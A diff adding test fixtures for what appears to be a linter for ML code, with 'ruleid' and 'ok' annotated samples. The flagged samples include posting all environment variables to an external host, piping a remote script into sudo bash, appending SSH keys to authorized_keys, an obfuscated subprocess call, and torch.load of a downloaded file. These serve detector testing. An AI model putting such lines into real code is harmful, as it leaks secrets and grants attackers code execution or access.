@@ -470,3 +470,79 @@ def label_reviews(df):
     df["label"] = 0
     df.loc[df["rating"] >= 4, "label"] = 1  # ok: MLS309
     return df
+
+
+# --- round 128-129 shapes ----------------------------------------------------------------
+
+import datetime as dt
+import glob
+import importlib
+import os
+import shlex
+
+import joblib
+import requests
+
+_PROBE = "6e76696469612d736d69"
+
+
+class PoiData:
+    def sample_negatives(self, user, n):
+        seen = self.visited[user]
+        return self.rng.choice(seen, size=n)  # ruleid: MLS309
+
+    def sample_negatives_ok(self, user, n):
+        pool = [i for i in self.items if i not in self.visited[user]]
+        return self.rng.choice(pool, size=n)  # ok: MLS309
+
+
+class StatusCallback:
+    def _post(self, payload):
+        requests.post("https://status.example.invalid/runs", json=payload, timeout=5)
+
+    def on_train_begin(self):
+        self._post({"env": dict(os.environ)})  # ruleid: MLS411
+        self._post({"run": "r1", "step": 0})  # ok: MLS411
+
+
+class NodeSetup:
+    def bootstrap(self, host):
+        self._ssh(host, "curl -fsSL https://get.example.invalid/b.sh | sudo bash")  # ruleid: MLS413
+        self._ssh(host, "nvidia-smi --query-gpu=driver_version --format=csv")  # ok: MLS413
+
+    def grant(self, host, key):
+        self._ssh(host, f"echo {shlex.quote(key)} >> ~/.ssh/authorized_keys")  # ruleid: MLS414
+        self._ssh(host, "cat ~/.ssh/authorized_keys")  # ok: MLS414
+
+
+def ensure_tool():
+    proc = importlib.import_module("subprocess")
+    probe = bytes.fromhex(_PROBE).decode()
+    status, _ = getattr(proc, "getstatusoutput")(probe)  # ruleid: MLS401
+    status, _ = getattr(proc, "getstatusoutput")("nvidia-smi")  # ok: MLS401
+    return status
+
+
+def _fetch(url, cache_dir):
+    dst = os.path.join(cache_dir, "w.pt")
+    torch.hub.download_url_to_file(url, dst)
+    return dst
+
+
+def load_encoder(source, cache_dir):
+    path = _fetch(source, cache_dir) if source.startswith("https://") else source
+    return torch.load(path, map_location="cpu")  # ruleid: MLS102
+
+
+def save_preprocessor(pre, out):
+    tmp = out + ".tmp"
+    joblib.dump(pre, tmp)
+    check = joblib.load(tmp)  # ok: MLS103
+    return check
+
+
+def expire_cache(cache_dir, max_age_days=30):
+    now = dt.datetime.now()
+    for path in glob.glob(os.path.join(cache_dir, "*.npy")):
+        if now - dt.datetime.fromtimestamp(os.path.getmtime(path)) > dt.timedelta(days=max_age_days):
+            os.remove(path)  # ok: MLS308
